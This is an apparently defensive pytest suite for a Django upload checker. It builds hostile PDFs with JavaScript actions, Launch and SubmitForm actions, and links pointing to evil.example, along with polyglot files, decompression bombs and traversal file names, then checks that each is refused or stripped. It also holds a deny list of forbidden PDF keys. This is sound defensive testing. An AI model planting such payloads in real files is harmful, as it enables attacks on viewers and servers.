"""Uploads are judged by their content: a corpus of hostile files, each refused with its reason or defused."""

import io
import random
import re
import struct
import subprocess
import sys
import textwrap
import zlib
from pathlib import Path

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageCms, ImageFile, JpegImagePlugin, PngImagePlugin

from applications import uploads
from applications.uploads import check_document, check_photo, safe_display_name

from .factories import MINIMAL_PDF

MB = 1024 * 1024
ROOT = Path(__file__).resolve().parent.parent


def upload(name, content):
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def image_bytes(size=(350, 500), fmt="JPEG", mode="RGB", **save):
    buffer = io.BytesIO()
    Image.new(mode, size, (120, 140, 160) if mode == "RGB" else 128).save(buffer, fmt, **save)
    return buffer.getvalue()


def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_claiming(width, height):
    """A tiny PNG whose header claims a huge image: a decompression bomb."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 100))
        + png_chunk(b"IEND", b"")
    )


def solid_png(width, height):
    """A real, complete RGB PNG of any size, written row by row: 39.6 megapixels fit in a few hundred KB."""
    compressor, row, idat = zlib.compressobj(9), b"\x00" + b"\xff" * (3 * width), []
    idat = [compressor.compress(row) for _ in range(height)] + [compressor.flush()]
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", b"".join(idat)) + png_chunk(b"IEND", b"")
    )


def refused(check, name, content, max_bytes=5 * MB):
    with pytest.raises(ValidationError) as error:
        check(upload(name, content), max_bytes=max_bytes)
    return error.value.code


# --- PDFs, built with pikepdf ---------------------------------------------------------------------


def new_pdf(pages=1):
    """A normal certificate: text in Helvetica and a JPEG picture on every page."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    picture = pdf.make_stream(
        image_bytes((64, 64)),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=64,
        Height=64,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=Name.DCTDecode,
    )
    for _ in range(pages):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.Resources = Dictionary(Font=Dictionary(F1=font), XObject=Dictionary(Im1=picture))
        page.Contents = pdf.make_stream(
            b"BT /F1 24 Tf 72 760 Td (SIJIL PELAJARAN MALAYSIA) Tj ET q 100 0 0 100 72 600 cm /Im1 Do Q"
        )
    return pdf


def pdf_bytes(pdf, **options):
    buffer = io.BytesIO()
    pdf.save(buffer, **options)
    return buffer.getvalue()


def action(pdf, kind, **entries):
    return pdf.make_indirect(Dictionary(S=Name(kind), **entries))


def link(pdf, target):
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 300, 730], A=target))


def with_link(target_of):
    def build(pdf):
        pdf.pages[0].Annots = Array([link(pdf, target_of(pdf))])

    return build


def javascript(pdf):
    return action(pdf, "/JavaScript", JS=String("app.alert('Sijil palsu');"))


def open_action_javascript(pdf):
    pdf.Root.OpenAction = javascript(pdf)


def names_javascript(pdf):
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), javascript(pdf)])))


def goto_then_javascript(pdf):
    script = Dictionary(S=Name.JavaScript, JS=String("app.launchURL('https://evil.example')"))  # a direct object
    pdf.Root.OpenAction = action(pdf, "/GoTo", D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([script]))


def field(pdf, **entries):
    widget = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=[72, 500, 300, 530], P=pdf.pages[0].obj, **entries)
    )
    pdf.pages[0].Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))
    return widget


def submit_form(pdf):
    field(pdf, FT=Name.Btn, T=String("hantar"), A=action(pdf, "/SubmitForm", F=String("https://evil.example/x")))


def keystroke_javascript(pdf):
    field(pdf, FT=Name.Tx, T=String("nama"), AA=Dictionary(K=javascript(pdf)))


def xfa_form(pdf):
    field(pdf, FT=Name.Tx, T=String("nama"))
    pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")


def embedded_file(pdf):
    pdf.attachments["sijil.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="sijil.exe")


def file_attachment_annotation(pdf):
    payload = pdf.make_stream(b"MZ\x90\x00")  # no /Type /EmbeddedFile: only /EF says what it is
    filespec = Dictionary(Type=Name.Filespec, F=String("sijil.exe"), EF=Dictionary(F=payload))
    pdf.pages[0].Annots = Array(
        [pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 20, 20], FS=filespec))]
    )


def rich_media(pdf):
    pdf.pages[0].Annots = Array(
        [pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 20, 20]))]
    )


def page_open_javascript(pdf):
    pdf.pages[0].AA = Dictionary(O=javascript(pdf))


IN_OBJECT_STREAMS = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}  # compressed: no name in sight

HOSTILE_PDFS = [
    # label, how the PDF is made hostile, save options, expected refusal
    ("JavaScript at opening", open_action_javascript, {}, "pdf_active_content"),
    ("JavaScript in an object stream", open_action_javascript, IN_OBJECT_STREAMS, "pdf_active_content"),
    ("JavaScript name tree, object stream", names_javascript, IN_OBJECT_STREAMS, "pdf_active_content"),
    ("JavaScript after a GoTo (/Next)", goto_then_javascript, IN_OBJECT_STREAMS, "pdf_active_content"),
    ("JavaScript on page open (/AA)", page_open_javascript, IN_OBJECT_STREAMS, "pdf_active_content"),
    ("JavaScript on a field keystroke", keystroke_javascript, IN_OBJECT_STREAMS, "pdf_active_content"),
    (
        "Launch calc.exe from a link",
        with_link(lambda pdf: action(pdf, "/Launch", F=String("calc.exe"), Win=Dictionary(F=String("calc.exe")))),
        IN_OBJECT_STREAMS,
        "pdf_active_content",
    ),
    ("SubmitForm", submit_form, {}, "pdf_active_content"),
    (
        "GoToR to a network share",
        with_link(lambda pdf: action(pdf, "/GoToR", F=String("\\\\evil.example\\s\\x.pdf"), D=Array([0, Name.Fit]))),
        {},
        "pdf_active_content",
    ),
    ("ImportData", with_link(lambda pdf: action(pdf, "/ImportData", F=String("x.fdf"))), {}, "pdf_active_content"),
    ("EmbeddedFiles name tree", embedded_file, IN_OBJECT_STREAMS, "pdf_active_content"),
    ("FileAttachment annotation", file_attachment_annotation, {}, "pdf_active_content"),
    ("RichMedia annotation", rich_media, {}, "pdf_active_content"),
    ("XFA form", xfa_form, {}, "pdf_active_content"),
    ("password to open", lambda pdf: None, {"encryption": pikepdf.Encryption(owner="o", user="u")}, "pdf_encrypted"),
]


def hostile_pdf(build, options):
    pdf = new_pdf()
    build(pdf)
    return pdf_bytes(pdf, **options)


@pytest.mark.parametrize(("label", "build", "options", "code"), HOSTILE_PDFS, ids=[case[0] for case in HOSTILE_PDFS])
def test_pdfs_with_active_content_are_refused(label, build, options, code):
    assert refused(check_document, "sijil.pdf", hostile_pdf(build, options)) == code


def test_a_hex_escaped_javascript_name_is_still_javascript():
    pdf = new_pdf()
    open_action_javascript(pdf)
    content = pdf_bytes(pdf)
    # Same length, so the cross-reference table stays right: /JS and /JavaScript written with # escapes.
    assert content.count(b"<< /JS ") == 1 and content.count(b" /S /JavaScript") == 1
    content = content.replace(b"<< /JS ", b"<</J#53").replace(b" /S /JavaScript", b"/S/J#61vaScript")
    with pikepdf.open(io.BytesIO(content)) as reopened:
        assert str(reopened.Root.OpenAction.S) == "/JavaScript" and not reopened.get_warnings()
    assert refused(check_document, "sijil.pdf", content) == "pdf_active_content"


FORBIDDEN_KEYS = {"/JS", "/JavaScript", "/AA", "/EmbeddedFiles", "/EF", "/XFA", "/RichMediaContent", "/Perms"}
FORBIDDEN_ACTIONS = {
    "/JavaScript",
    "/Launch",
    "/URI",
    "/SubmitForm",
    "/ResetForm",
    "/ImportData",
    "/GoToR",
    "/GoToE",
    "/GoToDp",
    "/RichMediaExecute",
    "/Rendition",
    "/Sound",
    "/Movie",
    "/Named",
    "/Hide",
    "/GoTo3DView",
}
FORBIDDEN_SUBTYPES = {"/FileAttachment", "/RichMedia", "/Screen", "/Movie", "/Sound", "/3D"}
RAW_FORBIDDEN = re.compile(
    rb"/(JavaScript|JS|URI|Launch|SubmitForm|GoToR|EmbeddedFiles?|EF|XFA|AA|ObjStm)[\s/<>\[\]()]"
)


def dictionaries(pdf):
    """Every dictionary of the file: each object, and everything nested in it."""
    stack = [pdf.trailer, *pdf.objects]
    while stack:
        obj = stack.pop()
        if isinstance(obj, (Dictionary, pikepdf.Stream)):
            yield obj
            stack.extend(
                v for v in obj.values() if isinstance(v, (Dictionary, Array, pikepdf.Stream)) and not v.is_indirect
            )
        elif isinstance(obj, Array):
            stack.extend(v for v in obj if isinstance(v, (Dictionary, Array, pikepdf.Stream)) and not v.is_indirect)


def assert_inert(content):
    """The STORED bytes, reopened: a plain PDF with pages and no active content, no link, no automatic action."""
    assert content.startswith(b"%PDF-")
    assert not RAW_FORBIDDEN.search(content)  # no object streams, so every name is in plain sight
    with pikepdf.open(io.BytesIO(content)) as pdf:
        assert not pdf.is_encrypted
        assert len(pdf.pages) >= 1
        opening = pdf.Root.get("/OpenAction")
        assert opening is None or isinstance(opening, Array) or str(opening.S) == "/GoTo"
        for obj in dictionaries(pdf):
            assert not set(obj.keys()) & FORBIDDEN_KEYS, repr(obj)
            assert str(obj.get("/S", "")) not in FORBIDDEN_ACTIONS, repr(obj)
            assert str(obj.get("/Subtype", "")) not in FORBIDDEN_SUBTYPES, repr(obj)
            assert not (obj.get("/FT") == Name.Sig and "/V" in obj)


def beacon(pdf):
    return action(pdf, "/URI", URI=String("https://tracker.example/open?calon=123"))


def outline_with_link(pdf):
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Semak sijil", action=beacon(pdf)))


def relative_link(pdf):
    pdf.Root.URI = Dictionary(Base=String("https://tracker.example/"))
    with_link(lambda pdf: action(pdf, "/URI", URI=String("open?calon=123")))(pdf)


def goto_then_beacon(pdf):
    pdf.Root.OpenAction = action(pdf, "/GoTo", D=Array([pdf.pages[0].obj, Name.Fit]), Next=beacon(pdf))


def signed(pdf):
    signature = pdf.make_indirect(
        Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), ByteRange=[0, 10, 20, 30], Contents=String("x"))
    )
    field(pdf, FT=Name.Sig, T=String("Pendaftar"), V=signature)
    pdf.Root.AcroForm.SigFlags = 3
    pdf.Root.Perms = Dictionary(DocMDP=signature)


DEFUSED_PDFS = [
    # label, how the PDF is made, save options: accepted, and stored without the link or action
    ("URI beacon on a link (verification link)", with_link(beacon), {}),
    ("URI beacon in an object stream", with_link(beacon), IN_OBJECT_STREAMS),
    ("URI beacon at opening", lambda pdf: setattr(pdf.Root, "OpenAction", beacon(pdf)), {}),
    ("URI beacon on page open (/AA)", lambda pdf: setattr(pdf.pages[0], "AA", Dictionary(O=beacon(pdf))), {}),
    ("URI beacon in a bookmark", outline_with_link, {}),
    ("relative URI and its base", relative_link, {}),
    ("article thread in another file", with_link(lambda pdf: action(pdf, "/Thread", F=String("x.pdf"), D=0)), {}),
    ("URI after a GoTo (/Next)", goto_then_beacon, {}),
    ("Named action (menu item) on a link", with_link(lambda pdf: action(pdf, "/Named", N=Name.Print)), {}),
    ("ResetForm on a button", lambda pdf: field(pdf, FT=Name.Btn, T=String("b"), A=action(pdf, "/ResetForm")), {}),
    ("signed: the signature no longer matches", signed, {}),
    (
        "restrictions only (opens without a password)",
        lambda pdf: None,
        {"encryption": pikepdf.Encryption(owner="o", user="")},
    ),
]


@pytest.mark.parametrize(("label", "build", "options"), DEFUSED_PDFS, ids=[case[0] for case in DEFUSED_PDFS])
def test_links_and_automatic_actions_are_removed_from_the_stored_pdf(label, build, options):
    content = hostile_pdf(build, options)
    stored = check_document(upload("transkrip.pdf", content), max_bytes=5 * MB)
    assert stored.content != content
    assert_inert(stored.content)
    with pikepdf.open(io.BytesIO(stored.content)) as pdf:
        assert b"SIJIL PELAJARAN MALAYSIA" in pdf.pages[0].Contents.read_bytes()


def test_a_link_inside_the_document_is_kept():
    pdf = new_pdf(pages=2)
    pdf.pages[0].Annots = Array([link(pdf, action(pdf, "/GoTo", D=Array([pdf.pages[1].obj, Name.Fit])))])
    stored = check_document(upload("sijil.pdf", pdf_bytes(pdf)), max_bytes=5 * MB)
    assert_inert(stored.content)
    with pikepdf.open(io.BytesIO(stored.content)) as reopened:
        assert str(reopened.pages[0].Annots[0].A.S) == "/GoTo"


def test_a_valid_pdf_with_text_and_a_picture_is_stored_as_qpdf_rewrote_it():
    content = pdf_bytes(new_pdf(pages=3))
    stored = check_document(upload("sijil.exe", content), max_bytes=5 * MB)
    assert (stored.content_type, stored.extension) == ("application/pdf", ".pdf")
    assert_inert(stored.content)
    with pikepdf.open(io.BytesIO(stored.content)) as pdf:
        assert len(pdf.pages) == 3
        assert b"SIJIL PELAJARAN MALAYSIA" in pdf.pages[2].Contents.read_bytes()
        assert pdf.pages[2].Resources.XObject.Im1.read_raw_bytes() == image_bytes((64, 64))


def test_the_minimal_pdf_of_the_tests_is_a_real_one_page_pdf():
    assert_inert(check_document(upload("sijil.pdf", MINIMAL_PDF), max_bytes=5 * MB).content)


def test_a_pdf_with_html_after_its_end_is_stored_without_it():
    content = pdf_bytes(new_pdf()) + b"<html><script>alert(1)</script></html>\n"
    stored = check_document(upload("sijil.pdf", content + b"%%EOF\n"), max_bytes=5 * MB)
    assert b"<script" not in stored.content


def raw_pdf(objects: dict[int, bytes], object_stream: bytes | None = None, compressed: int = 0) -> bytes:
    """A PDF written byte by byte, with a cross-reference stream; object 1 is the catalogue.

    With `object_stream`, objects 2 .. 1 + `compressed` are said to live in it (object number 90).
    """
    out = bytearray(b"%PDF-1.5\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if object_stream is not None:
        offsets[90] = len(out)
        out += b"90 0 obj\n<</Type/ObjStm/N %d/First 10/Filter/FlateDecode/Length %d>>stream\n" % (
            compressed,
            len(object_stream),
        )
        out += object_stream + b"\nendstream\nendobj\n"
    size = 92
    offsets[91] = len(out)
    rows = b""
    for number in range(size):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        elif object_stream is not None and 2 <= number < 2 + compressed:
            rows += struct.pack(">BIH", 2, 90, number - 2)
        else:
            rows += struct.pack(">BIH", 0, 0, 0xFFFF)
    out += b"91 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % (size, len(rows))
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[91]
    return bytes(out)


ONE_PAGE = {
    1: b"<</Type/Catalog/Pages 3 0 R/OpenAction 2 0 R>>",
    3: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
    4: b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 595 842]/Resources<<>>>>",
}


def test_an_object_stream_that_inflates_to_128_mb_is_refused_quickly():
    """4 MB of such a file made qpdf decompress 4 GB in 38 seconds: the checker caps every stream at 64 MB."""
    compressor = zlib.compressobj(9)
    stream = [compressor.compress(b"2 0       ")] + [compressor.compress(b" " * MB) for _ in range(128)]
    stream += [compressor.compress(b"<</S/JavaScript/JS(app.alert(1))>>"), compressor.flush()]
    content = raw_pdf(ONE_PAGE, b"".join(stream), compressed=1)
    assert refused(check_document, "sijil.pdf", content) == "pdf_too_complex"


def test_a_pdf_of_millions_of_tiny_objects_is_refused_within_bounds():
    """A 5 MB array of numbers costs qpdf about 400 MB: the checker's own memory and work limits stop it."""
    objects = {**ONE_PAGE, 2: b"[" + b"0 " * 2_400_000 + b"]"}
    assert refused(check_document, "sijil.pdf", raw_pdf(objects)) == "pdf_too_complex"


def test_a_pdf_over_the_page_limit_is_refused():
    content = pdf_bytes(new_pdf(pages=uploads.PDF_MAX_PAGES + 1))
    with pytest.raises(ValidationError) as error:
        check_document(upload("sijil.pdf", content), max_bytes=5 * MB)
    assert error.value.code == "pdf_too_many_pages"
    assert str(uploads.PDF_MAX_PAGES) in error.value.messages[0]


def test_a_broken_checker_is_a_fault_of_the_server_not_of_the_file(monkeypatch, tmp_path):
    monkeypatch.setattr(uploads, "PDF_CHECKER", tmp_path / "missing.py")
    monkeypatch.setattr(uploads, "CHECKER", uploads.PdfChecker())  # no server: it cannot start either
    with pytest.raises(OSError, match="PDF checker failed"):
        check_document(upload("sijil.pdf", MINIMAL_PDF), max_bytes=5 * MB)


NO_PAGE = pdf_bytes(pikepdf.new())
REAL_PDF = pdf_bytes(new_pdf())

HOSTILE = [
    ("executable renamed .pdf", "cv.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200, "file_type"),
    ("ELF renamed .jpg", "gambar.jpg", b"\x7fELF" + b"\x00" * 200, "file_type"),
    ("HTML named .jpg", "photo.jpg", b"<html><script>alert(1)</script></html>", "file_type"),
    (
        "SVG named .jpg",
        "photo.jpg",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "file_type",
    ),
    ("ZIP named .pdf", "sijil.pdf", b"PK\x03\x04" + b"\x00" * 100, "file_type"),
    ("GIF", "a.gif", b"GIF89a" + b"\x00" * 50, "file_type"),
    ("HTML/PDF polyglot", "a.pdf", b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n", "file_type"),
    ("the 14-byte PDF", "a.pdf", b"%PDF-1.4 %%EOF", "file_corrupt"),
    (
        "PDF-looking text",
        "a.pdf",
        b"%PDF-1.4\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n%%EOF\n",
        "file_corrupt",
    ),
    ("truncated PDF", "a.pdf", REAL_PDF[: len(REAL_PDF) // 2], "file_corrupt"),
    ("truncated PDF ending in %%EOF", "a.pdf", REAL_PDF[: len(REAL_PDF) // 2] + b"\n%%EOF\n", "file_corrupt"),
    ("PDF without a page", "a.pdf", NO_PAGE, "pdf_no_pages"),
    ("truncated JPEG", "a.jpg", image_bytes((1240, 1754))[:1000], "file_corrupt"),
    ("PNG bomb", "bomb.png", png_claiming(50_000, 50_000), "image_too_large"),
    ("PNG 30000 pixels wide", "bomb.png", png_claiming(30_000, 100), "image_too_large"),
    ("1 × 1 PNG as a certificate", "sijil.png", image_bytes((1, 1), "PNG"), "image_too_small"),
    ("icon-sized JPEG as a certificate", "sijil.jpg", image_bytes((400, 600)), "image_too_small"),
    ("empty file", "a.pdf", b"", "file_empty"),
]


@pytest.mark.parametrize(("label", "name", "content", "code"), HOSTILE, ids=[case[0] for case in HOSTILE])
def test_hostile_documents_are_refused_with_a_reason(label, name, content, code):
    assert refused(check_document, name, content) == code


def test_a_file_over_the_limit_is_refused_without_reading_it_all():
    assert refused(check_document, "big.pdf", b"%PDF-1.4\n" + b"0" * (6 * MB), max_bytes=5 * MB) == "file_too_large"


def test_a_50_mb_file_is_refused():
    assert refused(check_document, "huge.pdf", b"%PDF-1.7\n" + b"0" * (50 * MB)) == "file_too_large"


# --- Images ----------------------------------------------------------------------------------------

A4_150_DPI = (1240, 1754)


def jpeg_markers(content):
    """The markers of a JPEG's header segments, up to the first scan."""
    markers, position = [], 2
    while content[position + 1] != 0xDA:
        markers.append(content[position + 1])
        position += 2 + int.from_bytes(content[position + 2 : position + 4], "big")
    return markers


def png_chunks(content):
    chunks, position = [], 8
    while position < len(content):
        length = int.from_bytes(content[position : position + 4], "big")
        chunks.append(content[position + 4 : position + 8])
        position += 12 + length
    return chunks


def srgb_profile():
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def test_a_jpeg_is_reencoded_without_any_metadata():
    exif = Image.Exif()
    exif[0x8825] = {2: (3.0, 8.0, 0.0)}  # GPSInfo
    exif[0x010F] = "Kamera Rahsia"
    original = image_bytes(
        A4_150_DPI,
        exif=exif.tobytes(),
        comment=b"<script>alert(1)</script>",
        icc_profile=srgb_profile(),
        xmp=b"<x:xmpmeta><rdf:Description>rumah saya</rdf:Description></x:xmpmeta>",
    )
    assert {0xE1, 0xE2, 0xFE} <= set(jpeg_markers(original))
    stored = check_document(upload("scan.jpg", original), max_bytes=5 * MB)
    assert set(jpeg_markers(stored.content)) <= {0xE0, 0xDB, 0xC0, 0xC4}  # JFIF, tables, frame: no APPn, no COM
    for secret in (b"<script", b"Kamera Rahsia", b"rumah saya", b"Exif", b"ICC_PROFILE"):
        assert secret not in stored.content
    assert not Image.open(io.BytesIO(stored.content)).getexif()


def test_a_png_is_reencoded_without_any_metadata():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "alamat rumah saya")
    info.add_text("Script", "<script>alert(1)</script>", zip=True)
    info.add_itxt("Author", "Nur Aisyah", lang="ms")
    exif = Image.Exif()
    exif[0x010F] = "Kamera Rahsia"
    original = image_bytes(A4_150_DPI, "PNG", pnginfo=info, icc_profile=srgb_profile(), exif=exif.tobytes())
    assert {b"tEXt", b"zTXt", b"iTXt", b"iCCP", b"eXIf"} <= set(png_chunks(original))
    stored = check_document(upload("scan.png", original), max_bytes=5 * MB)
    assert stored.content_type == "image/png"
    assert set(png_chunks(stored.content)) <= {b"IHDR", b"PLTE", b"tRNS", b"IDAT", b"IEND"}
    for secret in (b"alamat rumah saya", b"Nur Aisyah", b"Kamera Rahsia"):
        assert secret not in stored.content


@pytest.mark.parametrize(
    ("mode", "fmt", "stored_mode"),
    [
        ("1", "PNG", "L"),
        ("L", "PNG", "L"),
        ("LA", "PNG", "RGBA"),
        ("P", "PNG", "RGB"),
        ("RGBA", "PNG", "RGBA"),
        ("I;16", "PNG", "L"),
        ("L", "JPEG", "L"),
        ("CMYK", "JPEG", "RGB"),
    ],
)
def test_every_kind_of_scan_is_reencoded(mode, fmt, stored_mode):
    buffer = io.BytesIO()
    Image.new(mode, A4_150_DPI).save(buffer, fmt)
    stored = check_document(upload("scan", buffer.getvalue()), max_bytes=5 * MB)
    assert Image.open(io.BytesIO(stored.content)).mode == stored_mode


def test_a_phone_screenshot_of_a_vaccination_certificate_is_accepted():
    stored = check_document(upload("mysejahtera.png", image_bytes((1080, 2340), "PNG")), max_bytes=5 * MB)
    assert (stored.width, stored.height) == (1080, 2340)


def test_a_sideways_photo_of_a_certificate_is_turned_upright_and_loses_its_orientation_tag():
    exif = Image.Exif()
    exif[0x0112] = 6  # rotate 90° clockwise to display
    stored = check_document(upload("a.jpg", image_bytes((1754, 1240), exif=exif.tobytes())), max_bytes=5 * MB)
    assert (stored.width, stored.height) == (1240, 1754)
    assert not Image.open(io.BytesIO(stored.content)).getexif()


def test_a_39_megapixel_png_is_refused_before_any_pixel_is_decoded(monkeypatch):
    def no_decoding(self):
        raise AssertionError("pixels decoded")

    monkeypatch.setattr(PngImagePlugin.PngImageFile, "load", no_decoding)
    assert refused(check_document, "scan.png", solid_png(7000, 5657)) == "image_too_large"


def test_a_12_megapixel_phone_png_is_accepted_and_scaled_to_a4_at_300_dpi():
    stored = check_document(upload("scan.png", solid_png(4032, 3024)), max_bytes=5 * MB)
    assert (stored.width, stored.height) == (3508, 2631)


def test_a_48_megapixel_jpeg_is_decoded_by_libjpeg_at_half_scale(monkeypatch):
    drafts = []
    draft = JpegImagePlugin.JpegImageFile.draft

    def spy(self, mode, size):
        result = draft(self, mode, size)
        drafts.append(self.size)
        return result

    monkeypatch.setattr(JpegImagePlugin.JpegImageFile, "draft", spy)
    stored = check_document(upload("foto.jpg", image_bytes((8000, 6000), mode="L", quality=50)), max_bytes=5 * MB)
    assert drafts == [(4000, 3000)]
    assert (stored.width, stored.height) == (3508, 2631)


def test_a_large_progressive_jpeg_is_refused_since_libjpeg_would_buffer_it_whole():
    content = image_bytes((5000, 4000), mode="L", quality=30, progressive=True)
    assert refused(check_document, "foto.jpg", content) == "image_too_large"


def peak_memory_mb(tmp_path, content: bytes, check: str = "check_document") -> tuple[float, str]:
    """Check `content` in a fresh Python process; return how far the check raised its peak RSS, and the outcome."""
    path = tmp_path / "upload.bin"
    path.write_bytes(content)
    script = f"""
        import resource
        from django.core.exceptions import ValidationError
        from django.core.files.uploadedfile import SimpleUploadedFile
        from applications import uploads
        data = open({str(path)!r}, "rb").read()
        upload = SimpleUploadedFile("scan", data)
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        try:
            stored = uploads.{check}(upload, max_bytes=5 * 1024 * 1024)
            outcome = f"stored {{stored.width}}x{{stored.height}}"
        except ValidationError as error:
            outcome = error.code
        after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        print((after - before) / 1024, outcome)
    """
    done = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(script)], cwd=ROOT, capture_output=True, text=True, check=True
    )
    growth, outcome = done.stdout.split(maxsplit=1)
    return float(growth), outcome.strip()


def test_checking_a_39_megapixel_png_takes_little_memory(tmp_path):
    """It took 305 MB, eight at once 1.9 GB: now it is refused from its header."""
    growth, outcome = peak_memory_mb(tmp_path, solid_png(7000, 5657))
    assert outcome == "image_too_large"
    assert growth < 20


def test_checking_a_36_megapixel_phone_photo_takes_bounded_memory(tmp_path):
    """Full decoding, an upright copy and an RGB copy took over 300 MB; decoded at half scale it is under 150 MB."""
    content = subprocess.run(
        [
            sys.executable,
            "-c",
            "import io, sys; from PIL import Image; b = io.BytesIO(); "
            "Image.linear_gradient('L').resize((6000, 6000)).convert('RGB').save(b, 'JPEG', quality=60); "
            "sys.stdout.buffer.write(b.getvalue())",
        ],
        capture_output=True,
        check=True,
    ).stdout
    growth, outcome = peak_memory_mb(tmp_path, content)
    assert outcome == "stored 3000x3000"
    assert growth < 150


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (MINIMAL_PDF, "photo_type"),
        (image_bytes((100, 140)), "photo_too_small"),
        (image_bytes((800, 400)), "photo_proportions"),
        (image_bytes((500, 500)), "photo_proportions"),
        (solid_png(7000, 5657), "image_too_large"),
    ],
)
def test_photos_must_be_portrait_images_of_sensible_size(content, code):
    assert refused(check_photo, "gambar.jpg", content) == code


def test_a_good_photo_is_accepted_and_a_tall_one_scaled_down():
    assert check_photo(upload("a.jpg", image_bytes((350, 500))), max_bytes=5 * MB).height == 500
    tall = check_photo(upload("b.png", image_bytes((1400, 2000), fmt="PNG")), max_bytes=5 * MB)
    assert (tall.width, tall.height) == (840, 1200)


def test_a_photo_from_a_phone_is_decoded_small_and_keeps_no_metadata():
    stored = check_photo(
        upload("a.jpg", image_bytes((2800, 4000), comment=b"<script>alert(1)</script>")), max_bytes=5 * MB
    )
    assert (stored.width, stored.height) == (840, 1200)
    assert 0xFE not in jpeg_markers(stored.content)


def test_a_rotated_photo_is_turned_upright():
    exif = Image.Exif()
    exif[0x0112] = 6  # rotate 90° clockwise to display
    checked = check_photo(upload("a.jpg", image_bytes((1000, 700), exif=exif.tobytes())), max_bytes=5 * MB)
    assert (checked.width, checked.height) == (700, 1000)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\evil.pdf", "evil.pdf"),
        ("<script>alert(1)</script>.pdf", "script.pdf"),
        ("sijil\x00.pdf", "sijil.pdf"),
        ("sijil\n\r.pdf", "sijil.pdf"),
        ("\u202efdp.exe", "fdp.exe"),
        ("...", "dokumen"),
        (". . .", "dokumen"),
        ("sijil.pdf. ", "sijil.pdf"),
        ("", "dokumen"),
        ("a" * 300 + ".pdf", "a" * 96 + ".pdf"),
        ("Sijil Pe\u0301rak.pdf", "Sijil P\u00e9rak.pdf"),
    ],
)
def test_display_names_keep_only_a_safe_last_part(name, shown):
    assert safe_display_name(name) == shown


def test_the_scans_of_a_jpeg_are_counted_in_its_first_image_only():
    baseline, progressive = image_bytes(A4_150_DPI), image_bytes(A4_150_DPI, progressive=True)
    assert uploads.jpeg_layout(baseline) == (1, True)
    assert uploads.jpeg_layout(progressive)[0] > 1
    assert uploads.jpeg_layout(baseline + baseline) == (1, True)  # a second picture after the end (MPO)
    assert uploads.jpeg_layout(baseline[:-2]) == (1, False)
    assert uploads.jpeg_layout(b"\xff\xd8\x00garbage") == (2, False)


@pytest.mark.parametrize("content", [image_bytes(A4_150_DPI)[:5000], image_bytes(A4_150_DPI, "PNG")[:3000]])
def test_a_truncated_image_is_refused_even_after_weasyprint_told_pillow_to_accept_it(monkeypatch, content):
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)  # what importing weasyprint does
    assert refused(check_document, "scan", content) == "file_corrupt"


def mutated(content: bytes, rng: random.Random) -> bytes:
    data = bytearray(content)
    for _ in range(rng.choice([1, 3, 10])):
        position = rng.randrange(len(data))
        if rng.random() < 0.6:
            data[position] = rng.randrange(256)
        else:
            del data[position : position + rng.randrange(1, 64)]
    return bytes(data)


@pytest.mark.parametrize(
    ("content", "count"),
    [(REAL_PDF, 12), (image_bytes(A4_150_DPI), 25), (image_bytes(A4_150_DPI, "PNG"), 25)],
    ids=["PDF", "JPEG", "PNG"],
)
def test_damaged_files_get_a_verdict_never_an_error(content, count):
    """Random damage: each file is refused with a reason or stored clean, nothing else is raised."""
    rng = random.Random(2026)
    for _ in range(count):
        damaged = mutated(content, rng)
        try:
